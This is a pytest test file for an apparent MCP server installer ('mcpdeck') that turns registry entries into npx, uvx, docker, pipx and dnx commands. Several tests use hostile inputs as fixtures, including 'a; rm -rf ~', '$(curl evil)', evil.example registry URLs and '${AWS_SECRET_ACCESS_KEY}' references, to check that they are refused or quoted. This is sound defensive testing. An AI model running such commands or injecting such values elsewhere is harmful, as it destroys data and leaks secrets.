"""From what the registry says of a server to the entry that is written."""

from __future__ import annotations

from typing import Any

import pytest

from mcpdeck.services.discovery.install_plan import chosen, short_name, ways_of
from mcpdeck.services.discovery.server_json import server_of
from mcpdeck.services.discovery.ways import Way
from mcpdeck.services.errors import UsageError
from mcpdeck.services.models import TransportKind
from tests.servers.registry_http import listed, npm


def ways(**fields: Any) -> tuple[Way, ...]:
    return ways_of(server_of(listed("io.github.acme/my.weather", **fields)))


def package(kind: str, identifier: str, version: str | None = "1.2.3", **fields: Any) -> Way:
    item = {"registryType": kind, "identifier": identifier, "transport": {"type": "stdio"}, **fields}
    if version is not None:
        item["version"] = version
    (way,) = ways(packages=[item])
    return way


def command(way: Way, **given: str) -> list[Any]:
    entry: Any = way.entry({name: [value] for name, value in given.items()}).entry
    return [entry["command"], *entry["args"]]


def positional(hint: str, **fields: Any) -> dict[str, Any]:
    return {"type": "positional", "valueHint": hint, **fields}


def named(name: str, **fields: Any) -> dict[str, Any]:
    return {"type": "named", "name": name, **fields}


@pytest.mark.parametrize(
    ("kind", "identifier", "version", "fields", "words"),
    [
        ("npm", "@a/b", "1.2.3", {}, ["npx", "-y", "@a/b@1.2.3"]),
        ("npm", "b", "1.2.3", {"runtimeHint": "bunx"}, ["bunx", "b@1.2.3"]),
        ("pypi", "weather-mcp", "0.5.0", {}, ["uvx", "weather-mcp==0.5.0"]),
        ("pypi", "weather-mcp", "0.5.0", {"runtimeHint": "pipx"}, ["pipx", "run", "weather-mcp==0.5.0"]),
        ("oci", "ghcr.example/a/b:1.0", None, {}, ["docker", "run", "-i", "--rm", "ghcr.example/a/b:1.0"]),
        ("oci", "a/b", "1.0", {"runtimeHint": "podman"}, ["podman", "run", "-i", "--rm", "a/b:1.0"]),
        (
            "oci",
            "a/b",
            "1",
            {"registryBaseUrl": "https://r.example"},
            ["docker", "run", "-i", "--rm", "r.example/a/b:1"],
        ),
        ("nuget", "Acme.Weather", "2.0.0", {}, ["dnx", "Acme.Weather@2.0.0", "--yes"]),
        (
            "nuget",
            "Acme.Weather",
            "2.0.0",
            {"packageArguments": [{"type": "positional", "value": "mcp"}, {"type": "positional", "value": "start"}]},
            ["dnx", "Acme.Weather@2.0.0", "--yes", "--", "mcp", "start"],
        ),
    ],
)
def test_each_kind_of_package_has_its_runner(
    kind: str, identifier: str, version: str | None, fields: dict[str, Any], words: list[str]
) -> None:
    way = package(kind, identifier, version, **fields)

    assert way.problem is None
    assert command(way) == words
    assert way.kind is TransportKind.STDIO


def test_names_in_snake_case_are_understood_as_well() -> None:
    older = {
        "registry_type": "npm",
        "identifier": "@a/b",
        "version": "1.0.2",
        "runtime_hint": "npx",
        "package_arguments": [{"type": "positional", "value_hint": "dir", "is_required": True, "is_repeated": True}],
        "environment_variables": [{"name": "KEY", "is_secret": True, "is_required": True}],
    }
    (way,) = ways(packages=[older])

    made = way.entry({"dir": ["/a", "/b"]})

    assert made.entry["args"] == ["-y", "@a/b@1.0.2", "/a", "/b"]
    assert made.references == ("KEY",)


@pytest.mark.parametrize("hint", ["python", "node", "/tmp/evil", "sh -c", "docker"])
def test_an_unknown_runner_is_never_run_and_a_person_is_told(hint: str) -> None:
    way = package("npm", "@a/b", runtimeHint=hint)

    assert command(way)[0] == "npx"
    assert any(hint in lint and "not known" in lint for lint in way.lints)


@pytest.mark.parametrize(
    ("kind", "identifier"),
    [
        ("npm", "--registry=https://evil.example"),
        ("npm", "git+https://evil.example/x"),
        ("npm", "file:../x"),
        ("npm", "a b"),
        ("npm", "a; rm -rf ~"),
        ("pypi", "--from"),
        ("pypi", "https://evil.example/x.whl"),
        ("oci", "-v"),
        ("oci", "a b"),
        ("nuget", "../x"),
        ("npm", "a\x1b[31m"),
        ("npm", "${HOME}"),
    ],
)
def test_an_identifier_that_is_no_name_of_a_package_is_refused(kind: str, identifier: str) -> None:
    way = package(kind, identifier)

    assert way.problem is not None and "no name of a package" in way.problem
    assert "\x1b" not in way.problem + way.label


@pytest.mark.parametrize("version", ["1.0 --evil", "^1.0", ">=1", "1;x", "-1"])
def test_a_version_that_is_none_is_refused(version: str) -> None:
    way = package("npm", "a", version)

    assert way.problem is not None and "is no version" in way.problem


@pytest.mark.parametrize("version", [None, "latest"])
def test_a_package_without_a_version_says_so(version: str | None) -> None:
    way = package("npm", "a", version)

    assert command(way) == ["npx", "-y", "a"]
    assert any("no version is named" in lint for lint in way.lints)


@pytest.mark.parametrize(
    ("kind", "words"), [("mcpb", "downloaded"), ("cargo", "built first"), ("brew", "not known"), ("NPM", "")]
)
def test_what_no_command_runs_says_why(kind: str, words: str) -> None:
    problem = package(kind, "a").problem

    assert (problem or "") == "" if not words else words in (problem or "")


def test_a_package_that_serves_http_itself_is_not_started() -> None:
    way = package("npm", "a", transport={"type": "streamable-http", "url": "http://localhost:{port}/mcp"})

    assert way.problem is not None and "mcpdeck add NAME URL" in way.problem


def test_shell_characters_stay_one_argument() -> None:
    text = "; rm -rf ~ && $(curl evil) `x` | y > z"
    way = package("npm", "a", packageArguments=[{"type": "positional", "value": text}, positional("where")])

    assert command(way, where=text) == ["npx", "-y", "a@1.2.3", text, text]
    assert "'" in way.shown  # quoted, as a shell would read it back


def test_a_reference_in_a_text_of_the_registry_is_refused() -> None:
    places: list[dict[str, Any]] = [
        {"packages": [npm(environmentVariables=[{"name": "X", "value": "${AWS_SECRET_ACCESS_KEY}"}])]},
        {"packages": [npm(packageArguments=[{"type": "positional", "value": "${HOME}"}])]},
        {"packages": [npm(packageArguments=[positional("x", default="a${HOME}")])]},
        {"packages": [npm(packageArguments=[named("--${HOME}=", value="1")])]},
        {"remotes": [{"type": "sse", "url": "https://evil.example/${AWS_SECRET_ACCESS_KEY}"}]},
        {"remotes": [{"type": "sse", "url": "https://e.example", "headers": [{"name": "X", "value": "${TOKEN}"}]}]},
        {
            "remotes": [
                {"type": "sse", "url": "https://e.example/{a}", "variables": {"a": {"default": "${AWS_SECRET}"}}}
            ]
        },
    ]
    for fields in places:
        (way,) = ways(**fields)
        assert way.problem is not None and "your environment" in way.problem, fields


def test_a_person_may_give_a_reference() -> None:
    way = package("npm", "a", packageArguments=[positional("where")])

    assert command(way, where="${HOME}/notes")[-1] == "${HOME}/notes"


def test_arguments_are_filled_in_order() -> None:
    way = package(
        "npm",
        "a",
        packageArguments=[
            named("--host", default="localhost", isRequired=True),
            named("--port", format="number"),
            named("--mode", value="fast"),
            named("--rm"),
            positional("database", isRequired=True),
            {"type": "other"},
        ],
    )

    assert command(way, database="db") == [
        "npx",
        "-y",
        "a@1.2.3",
        "--host",
        "localhost",
        "--mode",
        "fast",
        "--rm",
        "db",
    ]
    assert command(way, database="db", port="80", host="h")[3:] == [
        "--host", "h", "--port", "80", "--mode", "fast", "--rm", "db",
    ]  # fmt: skip
    assert [ask.name for ask in way.asks] == ["host", "port", "database"]


def test_variables_in_a_value_are_asked_for_and_repeated_together() -> None:
    mount = named(
        "--mount",
        value="type=bind,src={source},dst={target},x={other}",
        isRequired=True,
        isRepeated=True,
        variables={"source": {"format": "filepath", "isRequired": True}, "target": {"default": "/project"}},
    )
    way = package("oci", "a/b", "1", runtimeArguments=[mount])

    entry = way.entry({"source": ["/a", "/b"]}).entry

    assert entry["args"] == [
        "run", "-i", "--rm",
        "--mount", "type=bind,src=/a,dst=/project,x={other}",
        "--mount", "type=bind,src=/b,dst=/project,x={other}",
        "a/b:1",
    ]  # fmt: skip
    assert any("options of its own" in lint and "--mount" in lint for lint in way.lints)


def test_a_container_is_given_the_variables_of_its_entry() -> None:
    way = package(
        "oci",
        "a/b",
        "1",
        runtimeArguments=[{"type": "positional", "value": "run"}, named("-i"), named("--rm")],
        environmentVariables=[{"name": "MODE", "value": "x"}, {"name": "KEY", "isSecret": True, "isRequired": True}],
    )

    entry = way.entry({}).entry

    assert entry["args"] == ["run", "-e", "MODE", "-e", "KEY", "-i", "--rm", "a/b:1"]
    assert entry["env"] == {"MODE": "x", "KEY": "${KEY}"}


def test_a_secret_that_is_not_given_becomes_a_reference() -> None:
    way = package(
        "npm",
        "a",
        environmentVariables=[
            {"name": "API_KEY", "isSecret": True, "isRequired": True},
            {"name": "OPTIONAL", "isSecret": True},
            {
                "name": "DSN",
                "value": "pg://u:{password}@h",
                "variables": {"password": {"isSecret": True}},
                "isRequired": True,
            },
        ],
        packageArguments=[named("--api-key", isSecret=True, isRequired=True)],
    )

    made = way.entry({})

    assert made.entry["env"] == {"API_KEY": "${API_KEY}", "DSN": "pg://u:${MCP_MY_WEATHER_PASSWORD}@h"}
    assert made.entry["args"] == ["-y", "a@1.2.3", "--api-key", "${MCP_MY_WEATHER_API_KEY}"]
    assert made.references == ("MCP_MY_WEATHER_API_KEY", "API_KEY", "MCP_MY_WEATHER_PASSWORD")


def test_what_is_missing_is_named_all_at_once() -> None:
    way = package("npm", "a", packageArguments=[positional("one", isRequired=True), positional("two", isRequired=True)])

    with pytest.raises(UsageError) as caught:
        way.entry({})

    assert caught.value.title == "it needs one, two"
    assert caught.value.hint == "--set one=VALUE --set two=VALUE"


@pytest.mark.parametrize(
    ("fields", "value", "words"),
    [
        ({"choices": ["a", "b"]}, "c", "cannot be"),
        ({"format": "number"}, "1x", "is a number"),
        ({"format": "boolean"}, "yes", "true or false"),
        ({}, "a\nb", "line break"),
    ],
)
def test_values_that_the_server_does_not_take_are_refused(fields: dict[str, Any], value: str, words: str) -> None:
    way = package("npm", "a", packageArguments=[positional("x", **fields)])

    with pytest.raises(UsageError, match=words):
        way.entry({"x": [value]})


def test_an_unknown_value_names_its_neighbour() -> None:
    way = package("npm", "a", environmentVariables=[{"name": "API_URL"}])

    with pytest.raises(UsageError) as caught:
        way.entry({"API_URI": ["x"]})

    assert caught.value.hint == "did you mean API_URL?"


def test_a_preview_never_holds_a_secret() -> None:
    way = package("npm", "a", packageArguments=[positional("token", isSecret=True, isRequired=True), positional("x")])

    assert way.preview({"token": ["hunter2"], "x": ["1"]}) == "npx -y a@1.2.3 '${MCP_MY_WEATHER_TOKEN}' 1".replace(
        "'${MCP_MY_WEATHER_TOKEN}'", "${MCP_MY_WEATHER_TOKEN}"
    )
    assert "<x>" not in way.shown


def test_the_first_way_that_can_be_installed_is_chosen_or_that_of_a_transport() -> None:
    server = server_of(
        listed(
            "a/b",
            packages=[{"registryType": "mcpb", "identifier": "x"}, npm()],
            remotes=[{"type": "sse", "url": "https://a.example/sse"}],
        )
    )

    assert chosen(server, None).label == "npm @example/weather 1.0.0"
    assert chosen(server, TransportKind.SSE).label == "sse https://a.example/sse"
    with pytest.raises(UsageError, match="cannot be had over http"):
        chosen(server, TransportKind.HTTP)


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({}, "neither packages nor remotes"),
        ({"packages": [npm()], "status": "deleted"}, "was deleted"),
        ({"packages": [{"registryType": "mcpb", "identifier": "x"}]}, "cannot be installed"),
    ],
)
def test_a_server_that_cannot_be_installed_says_why(fields: dict[str, Any], words: str) -> None:
    with pytest.raises(UsageError, match=words):
        chosen(server_of(listed("a/b", **fields)), None)


@pytest.mark.parametrize(
    ("name", "short"), [("io.github.a/weather", "weather"), ("a/b.c_d-e", "b-c_d-e"), ("a/...", "server"), ("x", "x")]
)
def test_the_short_name_is_one_that_add_takes(name: str, short: str) -> None:
    assert short_name(name) == short
